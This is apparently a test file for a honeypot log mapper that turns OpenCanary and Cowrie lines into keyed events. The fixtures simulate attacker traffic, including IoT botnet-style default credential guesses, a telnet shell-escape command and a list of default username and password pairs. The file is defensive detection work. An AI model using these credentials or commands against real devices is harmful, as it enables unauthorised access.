    expect(expectMapped(mapOpenCanary(other)).sensorEventId).not.toBe(a)
    const later = ocLine(4002, { PASSWORD: "123456", USERNAME: "root" }, { utc_time: "2026-11-21 15:57:42.053124" })
    expect(expectMapped(mapOpenCanary(later)).sensorEventId).not.toBe(a)
  })

  test("the same Cowrie line gives the same id; another line or session another id", () => {
    const line = cowrieLine("cowrie.command.input", { input: "uname -a" }, "CMD: uname -a")
    const a = expectMapped(mapCowrie(line)).sensorEventId
    expect(expectMapped(mapCowrie(structuredClone(line))).sensorEventId).toBe(a)
    expect(expectMapped(mapCowrie({ ...line, input: "uname -m" })).sensorEventId).not.toBe(a)
    const otherSession = expectMapped(mapCowrie({ ...line, session: "0123456789ab" })).sensorEventId
    expect(otherSession).not.toBe(a)
    // What is known of the session changes the event, never the line's id.
    const known = { protocol: "telnet", sourcePort: 40000, port: 2323 } as const
    expect(expectMapped(mapCowrie(line, known)).sensorEventId).toBe(a)
  })

  test("canonicalJson sorts keys at every level and has JSON semantics", () => {
    expect(canonicalJson({ b: 1, a: { d: [3, { f: 1, e: 2 }], c: null } })).toBe(
      '{"a":{"c":null,"d":[3,{"e":2,"f":1}]},"b":1}',
    )
    expect(canonicalJson({ u: undefined, n: Number.NaN, s: "é\n" })).toBe('{"n":null,"s":"é\\n"}')
    expect(() => canonicalJson({ big: 1n })).toThrow()
  })
})

describe("a honeypot line's id is keyed per organization, no oracle for the password in it", () => {
  const ocLogin = ocLine(4002, { PASSWORD: "Winter2026!", USERNAME: "root" })
  const cwLogin = cowrieLine(
    "cowrie.login.failed",
    { username: "root", password: "Winter2026!" },
    "login attempt [root/Winter2026!] failed",
  )

  test("the id is the HMAC-SHA256 of the canonical line under the organization's line-id key, not its SHA-256", () => {
    for (const [id, prefix, line] of [
      [expectMapped(mapOpenCanary(ocLogin)).sensorEventId, "oc:k1:", ocLogin],
      [expectMapped(mapCowrie(cwLogin)).sensorEventId, "cw:k1:", cwLogin],
    ] as const) {
      const hmac = createHmac("sha256", KEY_A).update(canonicalJson(line), "utf8").digest("hex")
      expect(id).toBe(`${prefix}${hmac}`)
      expect(id).toBe(lineId(prefix, KEY_A, line))
      expect(id).not.toContain(sha256Hex(canonicalJson(line)))
      expect(id).not.toContain(sha256Hex(JSON.stringify(line)))
      expect(id).not.toContain("Winter2026!")
    }
  })

  test("the same line under two organizations gives two ids; twice under one, the same id", () => {
    expect(expectMapped(mapOpenCanaryKeyed(ocLogin, KEY_B)).sensorEventId).not.toBe(
      expectMapped(mapOpenCanaryKeyed(ocLogin, KEY_A)).sensorEventId,
    )
    expect(expectMapped(mapCowrieKeyed(cwLogin, KEY_B)).sensorEventId).not.toBe(
      expectMapped(mapCowrieKeyed(cwLogin, KEY_A)).sensorEventId,
    )
    expect(expectMapped(mapCowrieKeyed(structuredClone(cwLogin), KEY_B)).sensorEventId).toBe(
      expectMapped(mapCowrieKeyed(cwLogin, KEY_B)).sensorEventId,
    )
  })

  test("the line-id key is derived for its own purpose: 32 bytes, stable, neither the fingerprint key nor an HMAC under it", () => {
    expect(KEY_A).toHaveLength(32)
    expect(lineIdKey(FINGERPRINT_KEY_A)).toEqual(KEY_A)
    expect(KEY_A).not.toEqual(KEY_B)
    expect(Buffer.from(KEY_A).equals(Buffer.from(FINGERPRINT_KEY_A))).toBe(false)
    // A fingerprint is HMAC(fingerprint key, attacker text): no label an attacker could send as a password yields it.
    const keyHex = Buffer.from(KEY_A).toString("hex")
    for (const label of ["v1", "decoy-service honeypot line id", "derive:honeypot-line-id", ""]) {
      expect(createHmac("sha256", FINGERPRINT_KEY_A).update(label).digest("hex")).not.toBe(keyHex)
    }
  })
})

describe("a Cowrie line takes its session's protocol and ports from the session's connect", () => {
  const TELNET_SESSION = "c0ffee123456"
  const at = (fields: Record<string, unknown>) => ({ ...fields, session: TELNET_SESSION })
  const connect = at(
    cowrieLine(
      "cowrie.session.connect",
      { src_port: 38116, dst_ip: "10.0.0.9", dst_port: 2323, protocol: "telnet" },
      `New connection: 203.0.113.7:38116 (10.0.0.9:2323) [session: ${TELNET_SESSION}]`,
    ),
  )
  const failed = (password: string) =>
    at(cowrieLine("cowrie.login.failed", { username: "root", password }, `login attempt [root/${password}] failed`))
  const success = at(
    cowrieLine("cowrie.login.success", { username: "root", password: "xc3511" }, "login attempt succeeded"),
  )
  const command = at(cowrieLine("cowrie.command.input", { input: "enable; system; sh" }, "CMD: enable; system; sh"))
  const session = [connect, failed("admin"), failed("1234"), failed("vizxv"), success, command]
  const telnet: CowrieSession = { protocol: "telnet", sourcePort: 38116, port: 2323 }

  test("a telnet session in one batch: every line a telnet.* type with the connect's ports; its connect remembered", () => {
    const batch = mapCowrieBatch(session, KEY_A, new Map())
    const events = batch.results.map(expectMapped)
    expect(events.map((e) => e.type)).toEqual([
      "telnet.session",
      "telnet.login_attempt",
      "telnet.login_attempt",
      "telnet.login_attempt",
      "telnet.login_success",
      "telnet.command",
    ])
    for (const e of events) {
      expect(e).toMatchObject({ service: "telnet", port: 2323, sourcePort: 38116, sourceIp: "203.0.113.7" })
      // Cowrie's session id is not attacker input and is not returned (the API has no field for it).
      expect(JSON.stringify(e.attackerInput)).not.toContain(TELNET_SESSION)
    }
    expect([...batch.connects]).toEqual([[TELNET_SESSION, telnet]])
    expect(cowrieSessionsToLookUp(session)).toEqual([])
  })

  test("lines whose connect came in an earlier request use the remembered connect", () => {
    const later = session.slice(1)
    expect(cowrieSessionsToLookUp(later)).toEqual([TELNET_SESSION])
    const batch = mapCowrieBatch(later, KEY_A, new Map([[TELNET_SESSION, telnet]]))
    expect(batch.results.map((r) => expectMapped(r).type)).toEqual([
      "telnet.login_attempt",
      "telnet.login_attempt",
      "telnet.login_attempt",
      "telnet.login_success",
      "telnet.command",
    ])
    expect(batch.results.every((r) => expectMapped(r).port === 2323 && expectMapped(r).sourcePort === 38116)).toBe(true)
    expect(batch.connects.size).toBe(0)
    // The id depends on the line only: the same line maps to the same id with or without its session known.
    expect(expectMapped(batch.results[0] as MapResult).sensorEventId).toBe(
      expectMapped(mapCowrie(failed("admin"))).sensorEventId,
    )
  })

  test("a line of an unknown session keeps the defaults: ssh, source port 0, the type's default port", () => {
    const batch = mapCowrieBatch([failed("admin"), command], KEY_A, new Map())
    for (const r of batch.results) expect(expectMapped(r)).toMatchObject({ service: "ssh", port: 22, sourcePort: 0 })
    expect(batch.results.map((r) => expectMapped(r).type)).toEqual(["ssh.login_attempt", "ssh.command"])
  })

  test("a connect later in the same batch still applies; another session's connect does not", () => {
    const other = { ...failed("admin"), session: "0123456789ab" }
    const batch = mapCowrieBatch([failed("admin"), other, connect], KEY_A, new Map())
    expect(expectMapped(batch.results[0] as MapResult)).toMatchObject({ type: "telnet.login_attempt", port: 2323 })
    expect(expectMapped(batch.results[1] as MapResult)).toMatchObject({ type: "ssh.login_attempt", port: 22 })
    expect(cowrieSessionsToLookUp([failed("admin"), other, connect])).toEqual(["0123456789ab"])
  })

  test("the batch's connect wins over a remembered one; a line's own protocol and ports win over both", () => {
    const ssh: CowrieSession = { protocol: "ssh", sourcePort: 1, port: 2222 }
    const batch = mapCowrieBatch([connect, failed("admin")], KEY_A, new Map([[TELNET_SESSION, ssh]]))
    expect(expectMapped(batch.results[1] as MapResult)).toMatchObject({ type: "telnet.login_attempt", port: 2323 })
    const own = { ...failed("admin"), protocol: "ssh", src_port: 40000, dst_port: 22 }
    expect(expectMapped(mapCowrie(own, telnet))).toMatchObject({
      type: "ssh.login_attempt",
      port: 22,
      sourcePort: 40000,
    })
  })

  test("a connect line keeps its own values; a connect that does not map is not remembered", () => {
    const sshConnect = { ...connect, protocol: "ssh", src_port: 5555, dst_port: 22 }
    expect(expectMapped(mapCowrie(sshConnect, telnet))).toMatchObject({
      type: "ssh.session",
      port: 22,
      sourcePort: 5555,
    })
    const broken = { ...connect, dst_port: "telnet" }
    const batch = mapCowrieBatch([broken, failed("admin")], KEY_A, new Map())
    expectRejected(batch.results[0] as MapResult)
    expect(batch.connects.size).toBe(0)
    expect(expectMapped(batch.results[1] as MapResult)).toMatchObject({ type: "ssh.login_attempt", port: 22 })
  })

  test("a connect without ports is remembered with the defaults of its protocol", () => {
    const bare = { ...connect, src_port: undefined, dst_port: undefined }
    const batch = mapCowrieBatch([bare, command], KEY_A, new Map())
    expect([...batch.connects]).toEqual([[TELNET_SESSION, { protocol: "telnet", sourcePort: 0, port: 23 }]])
    expect(expectMapped(batch.results[1] as MapResult)).toMatchObject({ type: "telnet.command", port: 23 })
  })
})

describe("garbage never throws (one bad event does not reject the batch)", () => {
  const deep = JSON.parse(`${"[".repeat(5000)}${"]".repeat(5000)}`) as unknown
  const throwing = Object.defineProperty({}, "logtype", {
    enumerable: true,
    get: () => {
      throw new Error("boom")
    },
  })
  const cyclic: Record<string, unknown> = { logtype: 4002, src_host: "203.0.113.7", utc_time: OC_TIME, logdata: {} }
  cyclic.self = cyclic
  const cyclicCowrie: Record<string, unknown> = { ...cowrieLine("cowrie.command.input", { input: "ls" }, "m") }
  cyclicCowrie.self = cyclicCowrie

  const GARBAGE: ReadonlyArray<readonly [string, unknown]> = [
    ["null", null],
    ["undefined", undefined],
    ["an array", []],
    ["a number", 42],
    ["a string", '{"logtype":4002}'],
    ["a boolean", true],
    ["an empty object", {}],
    ["a string logtype", { logtype: "x" }],
    ["a float logtype", { logtype: 4002.5 }],
    ["logtype only", { logtype: 4002 }],
    ["eventid only", { eventid: "cowrie.login.failed" }],
    ["a numeric eventid", { eventid: 7 }],
    ["deep nesting", deep],
    ["deep nesting inside a line", { ...ocLine(4002, { USERNAME: "root" }), extra: deep }],
    ["a throwing getter", throwing],
    ["a cycle", cyclic],
    ["a cowrie cycle", cyclicCowrie],
    ["a bigint", { ...ocLine(4002, {}), n: 10n }],
  ]

  test.each(GARBAGE)("%s is rejected by both mappers", (_name, input) => {
    expectRejected(mapOpenCanary(input))
    expectRejected(mapCowrie(input))
  })

  test("huge strings are mapped (sanitizing and cutting come later) without throwing", () => {
    const huge = "A".repeat(2_000_000)
    const oc = expectMapped(mapOpenCanary(ocLine(3000, { PATH: `/${huge}`, USERAGENT: huge })))
    expect((oc.attackerInput.path as string).length).toBe(2_000_001)
    const cw = expectMapped(mapCowrie(cowrieLine("cowrie.command.input", { input: huge }, "m")))
    expect((cw.attackerInput.command as string).length).toBe(2_000_000)
    expectRejected(mapCowrie({ ...cowrieLine("cowrie.login.failed", {}, "m"), eventid: huge }))
    expect(expectRejected(mapOpenCanary(ocLine(4002, {}, { utc_time: huge }))).length).toBeLessThan(200)
  })

  test("property: arbitrary batches never make the Cowrie batch mapper throw; one result per line", () => {
    const line = fc.oneof(
      fc.anything(),
      fc.jsonValue(),
      fc.record({
        eventid: fc.constantFrom(...COWRIE_EVENTIDS.keys(), "cowrie.client.version"),
        session: fc.constantFrom(SESSION, "0123456789ab", "../x", 7),
        protocol: fc.constantFrom("ssh", "telnet", "http", null),
        src_ip: fc.constantFrom("203.0.113.7", "x"),
        src_port: fc.oneof(fc.integer({ min: -2, max: 70000 }), fc.string()),
        dst_port: fc.oneof(fc.integer({ min: -2, max: 70000 }), fc.string()),
        timestamp: fc.constant(COWRIE_TIME),
      }),
    )
    fc.assert(
      fc.property(fc.array(line, { maxLength: 20 }), (lines) => {
        const batch = mapCowrieBatch(lines, KEY_A, new Map())
        cowrieSessionsToLookUp(lines)
        return batch.results.length === lines.length
      }),
      { numRuns: 300 },
    )
  })

  test("property: arbitrary values and arbitrary JSON never make a mapper throw", () => {
    fc.assert(
      fc.property(fc.oneof(fc.anything(), fc.jsonValue()), (value) => {
        const a = mapOpenCanary(value)
        const b = mapCowrie(value)
        return (a._tag === "Mapped" || a._tag === "Rejected") && (b._tag === "Mapped" || b._tag === "Rejected")
      }),
      { numRuns: 500 },
    )
  })

  test("property: well-formed lines with arbitrary logdata map, keeping only scalars (and credentials)", () => {
    const logtypes = [...OPENCANARY_LOGTYPES].flatMap(([logtype, o]) =>
      o.outcome === "accepted" && logtype !== 20001 ? [logtype] : [],
    )
    fc.assert(
      fc.property(fc.constantFrom(...logtypes), fc.dictionary(fc.string(), fc.jsonValue()), (logtype, logdata) => {
        const result = mapOpenCanary(ocLine(logtype, logdata))
        // A 4001 line is the client version of a connection: merged into its 4000 line's event (a session).
        if (logtype === 4001) return result._tag === "Merged"
        return result._tag === "Mapped" && SCALARS_OR_CREDENTIALS(result.event.attackerInput)
      }),
      { numRuns: 300 },
    )
  })
})

describe("shared helpers", () => {
  test("parsePort", () => {
    expect(parsePort(22)).toBe(22)
    expect(parsePort("445")).toBe(445)
    expect(parsePort(0)).toBe(0)
    expect(parsePort(-1)).toBe("unknown")
    expect(parsePort("-1")).toBe("unknown")
    expect(parsePort(undefined)).toBe("unknown")
    expect(parsePort(null)).toBe("unknown")
    expect(parsePort(65536)).toBe("invalid")
    expect(parsePort("22a")).toBe("invalid")
    expect(parsePort(1.5)).toBe("invalid")
    expect(parsePort([22])).toBe("invalid")
  })

  test("normalizeIp", () => {
    expect(normalizeIp("198.51.100.4")).toBe("198.51.100.4")
    expect(normalizeIp("::FFFF:198.51.100.4")).toBe("198.51.100.4")
    expect(normalizeIp("2001:DB8::1")).toBe("2001:db8::1")
    expect(normalizeIp("::1")).toBe("::1")
    expect(normalizeIp("256.1.1.1")).toBeUndefined()
    expect(normalizeIp(" 1.2.3.4")).toBeUndefined()
    expect(normalizeIp("")).toBeUndefined()
    expect(normalizeIp(16909060)).toBeUndefined()
  })

  test("parseLogTime", () => {
    expect(parseLogTime("2026-11-21 15:57:42.053123")).toBe("2026-11-21T15:57:42.053Z")
    expect(parseLogTime("2026-11-21t15:57:42z")).toBe("2026-11-21T15:57:42.000Z")
    expect(parseLogTime("2025-02-29 00:00:00")).toBeUndefined()
    expect(parseLogTime("2026-11-21 15:57:60")).toBeUndefined()
    expect(parseLogTime("2026-11-21")).toBeUndefined()
    expect(parseLogTime(null)).toBeUndefined()
  })

  test("camelCaseKey", () => {
    expect(camelCaseKey("USERAGENT")).toBe("useragent")
    expect(camelCaseKey("VNC Server Challenge")).toBe("vncServerChallenge")
    expect(camelCaseKey("UserName")).toBe("userName")
    expect(camelCaseKey("smb_ver")).toBe("smbVer")
    expect(camelCaseKey("__proto__")).toBe("proto")
    expect(camelCaseKey("constructor")).toBeUndefined()
    expect(camelCaseKey("---")).toBeUndefined()
    expect(camelCaseKey("")).toBeUndefined()
  })

  test("isDefaultCredential", () => {
    expect(isDefaultCredential("admin", "admin")).toBe(true)
    expect(isDefaultCredential("ROOT", "toor")).toBe(true)
    expect(isDefaultCredential("pi", "raspberry")).toBe(true)
    expect(isDefaultCredential("sa", "")).toBe(true)
    expect(isDefaultCredential("root", "Toor")).toBe(false)
    expect(isDefaultCredential("root", undefined)).toBe(false)
    expect(isDefaultCredential("alice", "admin")).toBe(false)
    expect(isDefaultCredential("constructor", "")).toBe(false)
  })
})
